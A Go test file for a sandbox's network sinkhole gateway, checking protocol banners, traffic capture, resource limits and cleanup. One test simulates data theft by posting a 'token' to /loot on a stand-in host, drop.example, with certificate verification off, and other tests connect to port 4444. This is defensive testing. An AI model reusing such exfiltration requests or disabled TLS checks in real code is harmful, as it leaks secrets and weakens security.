package gateway

import (
	"bufio"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"skillbox/netpolicy"
	"skillbox/policy"
)

// sinkhole is a box's network whose every connection ends in a gateway with this budget.
func sinkhole(t *testing.T, b Budget) (*netpolicy.Handle, *Gateway) {
	t.Helper()
	if syscall.Geteuid() != 0 {
		t.Skip("needs root: it makes a network namespace")
	}
	rules := netpolicy.Compile(nil, nil)
	h, err := netpolicy.Create(netpolicy.Description{Rules: rules, Sinkhole: true})
	if err != nil {
		t.Fatal(err)
	}
	g := Start(h, Options{Rules: rules, Normalize: policy.NormalizeName, Budget: b, Sinkhole: true})
	t.Cleanup(func() {
		if err := errors.Join(g.Close(), h.Close()); err != nil {
			t.Error(err)
		}
	})
	return h, g
}

var plenty = Budget{Bytes: 1 << 30, Connections: 100_000, Rate: 100_000}

// talks says its lines to a port and returns what is answered to each: the first is what the server says unasked, "" for a protocol in
// which it does not.
func talks(t *testing.T, port int, lines ...string) (answers []string) {
	c, err := net.DialTimeout("tcp", fmt.Sprintf("203.0.113.5:%d", port), 5*time.Second)
	if err != nil {
		t.Error(err)
		return nil
	}
	defer c.Close()
	r := bufio.NewReader(c)
	for _, line := range lines {
		if _, err := io.WriteString(c, line); err != nil {
			return append(answers, err.Error())
		}
		c.SetReadDeadline(time.Now().Add(700 * time.Millisecond))
		text := ""
		for {
			part, err := r.ReadString('\n')
			text += part
			if err != nil || r.Buffered() == 0 {
				break
			}
		}
		answers = append(answers, strings.ReplaceAll(text, "\r\n", "|"))
	}
	return answers
}

func TestASinkholeIsPolite(t *testing.T) {
	h, _ := sinkhole(t, plenty)
	const ok = "HTTP/1.1 200 OK|Content-Type: text/plain|Content-Length: 0||"
	for _, c := range []struct {
		port  int
		lines []string
		want  string
	}{
		{25, []string{"", "EHLO me\r\n", "MAIL FROM:<a@example.com>\r\n", "DATA\r\n", "QUIT\r\nis data\r\n", ".\r\n", "QUIT\r\n"}, "220 mail ESMTP| 250-mail|250-AUTH PLAIN LOGIN|250 8BITMIME| 250 ok| 354 go ahead|  250 ok| 221 bye|"},
		{21, []string{"", "USER a\r\n", "PASS b\r\n", "STOR c\r\n"}, "220 ready| 331 password| 230 ok| 200 ok|"},
		{110, []string{"", "USER a\r\n"}, "+OK ready| +OK|"},
		{22, []string{"", "SSH-2.0-x\r\n"}, "SSH-2.0-OpenSSH_9.2| "},
		{25, []string{"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n"}, ok},
		{8080, []string{"GET / HTTP/1.1\r\nHost: a.example\r\n\r\n", "POST /x HTTP/1.1\r\nHost: a.example\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n0\r\n\r\n"}, ok + " " + ok},
		{80, []string{"POST / HTTP/1.1\r\nHost: a.example\r\nContent-Length: 3\r\nExpect: 100-continue\r\n\r\n", "abc"}, "HTTP/1.1 100 Continue|| " + ok},
		{80, []string{"GET / HTTP/1.0\r\n\r\n"}, ok},
		{4444, []string{"hello\n", "more\n"}, " "},
	} {
		inside(t, h, func() {
			if got := strings.Join(talks(t, c.port, c.lines...), " "); got != c.want {
				t.Errorf("%d %q:\n%q, want\n%q", c.port, c.lines, got, c.want)
			}
		})
	}
}

// Who takes any certificate is heard within TLS; who looks ends the connection, and is known by its hello.
func TestASinkholeHearsWhoDoesNotLook(t *testing.T) {
	h, g := sinkhole(t, plenty)
	for _, careless := range []bool{true, false} {
		inside(t, h, func() {
			c, err := net.Dial("tcp", "203.0.113.5:443")
			if err != nil {
				t.Error(err)
				return
			}
			defer c.Close()
			within := tls.Client(c, &tls.Config{ServerName: "drop.example", InsecureSkipVerify: careless})
			_, err = io.WriteString(within, "POST /loot HTTP/1.1\r\nHost: drop.example\r\nContent-Length: 5\r\n\r\ntoken")
			if careless != (err == nil) {
				t.Errorf("careless %v: %v", careless, err)
			}
			answer, _ := bufio.NewReader(within).ReadString('\n')
			if careless && answer != "HTTP/1.1 200 OK\r\n" {
				t.Errorf("%q", answer)
			}
		})
	}
	settled(t, g, 2)
	events := g.Report().Events
	for i, first := range []string{"POST /loot HTTP/1.1", "\x16\x03\x01"} {
		if e := events[i]; e.Name != "drop.example" || !strings.HasPrefix(string(e.First), first) {
			t.Errorf("%+v", e)
		}
	}
	if strings.HasSuffix(string(events[1].First), "token") || !strings.HasSuffix(string(events[0].First), "token") {
		t.Errorf("%q %q", events[0].First, events[1].First)
	}
}

// settled waits until so many connections have ended.
func settled(t *testing.T, g *Gateway, n int) {
	t.Helper()
	for began := time.Now(); len(g.Report().Events)+len(g.Report().Denials) < n; time.Sleep(5 * time.Millisecond) {
		if time.Since(began) > time.Minute {
			t.Fatalf("only %+v", g.Report())
		}
	}
}

func TestASinkholeHasBounds(t *testing.T) {
	t.Run("bytes", func(t *testing.T) {
		h, g := sinkhole(t, Budget{Bytes: 100_000, Connections: 10, Rate: 10})
		inside(t, h, func() {
			c, err := net.Dial("tcp", "203.0.113.5:4444")
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			for err == nil {
				_, err = c.Write(make([]byte, 64<<10))
			}
			if !errors.Is(err, syscall.ECONNRESET) && !errors.Is(err, syscall.EPIPE) {
				t.Error(err)
			}
		})
		settled(t, g, 1)
		if r := g.Report(); len(r.Denials) != 1 || r.Denials[0].Verdict.Why != "network.limits.bytes: 100000" || len(r.Denials[0].First) != maxFirst {
			t.Errorf("%+v", r.Denials)
		}
	})
	t.Run("connections", func(t *testing.T) {
		h, g := sinkhole(t, Budget{Bytes: 1 << 20, Connections: 3, Rate: 10})
		inside(t, h, func() {
			for i := range 5 {
				if c, err := net.Dial("tcp", "203.0.113.5:4444"); err == nil {
					fmt.Fprintf(c, "%d", i)
					c.Close()
				} else if i < 3 || !errors.Is(err, syscall.ECONNRESET) {
					t.Error(err)
				}
			}
		})
		settled(t, g, 4)
		time.Sleep(100 * time.Millisecond)
		if r := g.Report(); len(r.Events) != 3 || len(r.Denials) != 1 || r.Denials[0].Verdict.Why != "network.limits.connections: 3" {
			t.Errorf("%+v", r)
		}
	})
	t.Run("silence", func(t *testing.T) {
		h, g := sinkhole(t, plenty)
		began := time.Now()
		inside(t, h, func() {
			c, err := net.Dial("tcp", "203.0.113.5:4444")
			if err != nil {
				t.Fatal(err)
			}
			defer c.Close()
			if _, err := c.Read(make([]byte, 1)); err != io.EOF {
				t.Errorf("%v", err)
			}
		})
		if took := time.Since(began); took < quietTime || took > quietTime+5*time.Second {
			t.Errorf("it took %v", took)
		}
		settled(t, g, 1)
		if r := g.Report(); len(r.Events) != 1 || r.Events[0].Sent != 0 {
			t.Errorf("%+v", r)
		}
	})
	t.Run("at a time", func(t *testing.T) {
		h, g := sinkhole(t, plenty)
		inside(t, h, func() {
			for range maxSinks + 10 {
				if c, err := net.Dial("tcp", "203.0.113.5:4444"); err == nil {
					defer c.Close()
				} else if !errors.Is(err, syscall.ECONNRESET) {
					t.Error(err)
				}
			}
			settled(t, g, 1)
			time.Sleep(100 * time.Millisecond)
		})
		if r := g.Report(); len(r.Denials) != 1 || r.Denials[0].Count != 10 || r.Denials[0].Verdict.Why != fmt.Sprintf("more than %d connections at a time", maxSinks) {
			t.Errorf("%+v", r.Denials)
		}
	})
}

// However much is sent, in however many connections and datagrams, what is kept is a few megabytes.
func TestASinkholeKeepsLittle(t *testing.T) {
	h, g := sinkhole(t, plenty)
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	inside(t, h, func() {
		block := make([]byte, 64<<10)
		for i := range 1200 {
			c, err := net.Dial("tcp", fmt.Sprintf("203.0.113.5:%d", 2300+i))
			if err != nil {
				t.Fatal(err)
			}
			if _, err := c.Write(block); err != nil {
				t.Error(err)
			}
			c.Close()
		}
		u, err := net.Dial("udp", "203.0.113.6:9")
		if err != nil {
			t.Fatal(err)
		}
		defer u.Close()
		for range 2000 {
			if _, err := u.Write(block[:60_000]); err != nil {
				t.Error(err)
			}
		}
	})
	for began := time.Now(); g.closing() && time.Since(began) < time.Minute; time.Sleep(10 * time.Millisecond) {
	}
	runtime.GC()
	runtime.ReadMemStats(&after)
	r := g.Report()
	if grown := int64(after.HeapAlloc) - int64(before.HeapAlloc); grown > 16<<20 || len(r.Events) > maxEvents || r.Dropped == 0 {
		t.Errorf("%d bytes more, %d events, %d dropped", grown, len(r.Events), r.Dropped)
	}
	for _, e := range r.Events {
		if len(e.First) > maxFirst {
			t.Fatalf("%d bytes of a connection are kept", len(e.First))
		}
	}
}

// Of sinkholes whose clients go, stay or say nothing, nothing is left.
func TestSinkholesLeaveNothing(t *testing.T) {
	if !alone(t) {
		return
	}
	one := func() {
		rules := netpolicy.Compile(nil, nil)
		h, err := netpolicy.Create(netpolicy.Description{Rules: rules, Sinkhole: true})
		if err != nil {
			t.Fatal(err)
		}
		g := Start(h, Options{Rules: rules, Normalize: policy.NormalizeName, Budget: plenty, Sinkhole: true})
		inside(t, h, func() {
			for _, port := range []int{25, 80, 443, 4444} {
				for _, says := range []string{"", "GET / HTTP/1.1\r\n", "\x16\x03\x01"} {
					c, err := net.Dial("tcp", fmt.Sprintf("203.0.113.5:%d", port))
					if err != nil {
						t.Error(err)
						continue
					}
					defer c.Close()
					_, _ = io.WriteString(c, says)
				}
			}
		})
		if err := errors.Join(g.Close(), h.Close()); err != nil {
			t.Error(err)
		}
	}
	one()
	left := func() string { return fmt.Sprint(runtime.NumGoroutine(), descriptors(t)) }
	before := left()
	for range 20 {
		one()
	}
	now := left()
	for began := time.Now(); now != before && time.Since(began) < 10*time.Second; now = left() {
		time.Sleep(20 * time.Millisecond)
	}
	if now != before {
		t.Errorf("goroutines and descriptors are %s, and were %s", now, before)
	}
}
